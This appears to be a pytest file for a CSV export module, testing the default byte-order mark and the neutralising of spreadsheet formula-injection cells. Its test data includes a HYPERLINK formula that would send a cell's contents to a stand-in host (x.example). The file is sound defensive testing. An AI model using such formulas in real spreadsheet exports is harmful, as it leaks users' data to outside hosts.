"""CSV for spreadsheets: a UTF-8 byte-order mark unless asked not to, and no cell a spreadsheet would run."""

from __future__ import annotations

import pytest

from reports.tabular import COLUMNS, neutralise, to_csv


def test_the_byte_order_mark_is_on_by_default():
    assert to_csv([]).startswith("\ufeff" + COLUMNS[0])
    assert to_csv([], bom=False).startswith(COLUMNS[0])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(start):
    cell = start + 'HYPERLINK("http://x.example/?q="&A1)'
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("value", ["价格 = 成本", "a=b", " =1", 42, -3, None, ""])
def test_other_cells_pass_unchanged(value):
    assert neutralise(value) == value
